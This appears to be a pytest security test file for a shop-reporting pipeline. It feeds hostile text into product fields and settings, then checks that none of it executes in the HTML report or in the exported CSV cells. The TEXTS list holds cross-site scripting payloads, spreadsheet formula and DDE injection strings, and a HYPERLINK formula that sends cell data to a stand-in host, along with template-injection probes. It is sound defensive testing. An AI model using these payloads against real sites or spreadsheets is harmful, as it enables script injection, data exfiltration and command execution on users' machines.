"""Hostile text on the whole way: nothing of it executes in a browser or in a spreadsheet."""

from __future__ import annotations

import csv
import itertools
import re
from functools import partial
from pathlib import Path

import pytest
from conftest import ROOT
from whole_dag import refusal, rows_of_a_shop

from pipeline.assign_segments import __main__ as assign_segments
from pipeline.core.model.naming import read_playbook
from pipeline.core.text.spreadsheet import FORMULA_STARTS
from pipeline.profile_segments import __main__ as profile_segments
from pipeline.render_report import __main__ as render_report
from pipeline.render_report.language import WORDS, read_language

pytestmark = pytest.mark.slow

TEXTS = (
    "<script>window.hacked=1</script> MUG",
    "</script><img src=x onerror=window.hacked=1> BOWL",
    "\"'><svg/onload=window.hacked=1> CANDLE",
    '=HYPERLINK("http://x.example/?"&A1,"LAMP")',
    "@SUM(1+1)*cmd|' /C calc'!A0 BAG",
    "+1 TOY", "-1 TIN", "\t=1+1 CARD", "＝1+1 FRAME",
    "{{ 7*7 }}{% raw %}${7*7}%(x)s{0} CLOCK",
    "javascript:window.hacked=1 RIBBON",
    "🎁 هدية \u202eevil\u202c NECKLACE",
    'two\nlines, a "quote" and <!-- a comment SIGN',
    "\x1b[31m\x07 CUSHION",
    "x" * 5000 + " JAR",
)  # fmt: skip


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A shop with hostile text wherever a person can put text, after every stage."""
    folder = tmp_path_factory.mktemp("hostile")
    rows = rows_of_a_shop(1800, 211)
    for number, row in enumerate(rows):
        text = TEXTS[number % len(TEXTS)]
        row[1], row[2] = f"{text[:20]}{number % 45}", text
        row[6] = f"{TEXTS[int(row[6]) % len(TEXTS)][:30]}{row[6]}"
        row[7] = TEXTS[number * 7 % len(TEXTS)][:60] if number % 4 else "United Kingdom"
    playbook = (ROOT / "pipeline/settings/playbook.yaml").read_text(encoding="utf-8")
    number = itertools.count(1)
    name = "names: ['={}<img src=x onerror=window.hacked=1>', "
    changed = re.sub(r"names: \[", lambda _: name.format(next(number)), playbook)
    assert next(number) > 5
    (folder / "playbook.yaml").write_text(changed, encoding="utf-8")
    words = (WORDS / "en.yaml").read_text(encoding="utf-8")
    words = words.replace("- say: They", "- say: <script>window.hacked=1</script> They")
    words = words.replace('"Show the new', '"=1+1 Show the new')
    (folder / "en.yaml").write_text(words, encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:
        for stage in (assign_segments, profile_segments):
            patch.setattr(stage, "read_playbook", partial(read_playbook, folder / "playbook.yaml"))
        patch.setattr(render_report, "read_language", partial(read_language, folder=folder))
        assert refusal(folder, rows, shop={"name": TEXTS[0], "currency": "<b>"}) is None
    return folder


def test_no_cell_of_any_exported_csv_would_execute(shop):
    files = [*(shop / "reports").glob("*.csv")]
    assert {f.name for f in files} == {"segments.csv", "products_to_review.csv"}
    guarded = 0
    for file in files:
        with file.open(encoding="utf-8", newline="") as opened:
            cells = [cell for row in csv.reader(opened) for cell in row]
        numbers = {c for c in cells if c.lstrip("-").replace(".", "", 1).isdigit()}
        texts = [c for c in cells if c not in numbers]
        assert [c for c in texts if c.lstrip().startswith(FORMULA_STARTS)] == []
        assert [c for c in cells if any(ord(letter) < 32 for letter in c)] == []
        guarded += sum(c.startswith("'") for c in texts)
    assert guarded > 50


@pytest.mark.browser
def test_hostile_text_never_executes_in_a_browser(shop, browser):
    said: list[str] = []
    asked: list[str] = []
    page = browser.new_page()
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("dialog", lambda dialog: said.append(dialog.message))
    page.on("request", lambda request: asked.append(request.url))
    address = (shop / "reports/segments.html").as_uri()
    page.goto(address)
    page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true })")
    assert page.evaluate("window.hacked") is None
    assert said == []
    assert [url for url in asked if url != address and not url.startswith("data:")] == []
    assert page.locator("img[src=x], svg[onload]").count() == 0
    protocols = page.evaluate("[...document.querySelectorAll('a')].map(a => a.protocol)")
    assert "javascript:" not in protocols
    # It is shown, as the text that it is.
    text = page.evaluate("document.body.innerText")
    assert "<script>window.hacked=1</script> MUG" in text
    assert "window.hacked=1>" in text
    page.close()
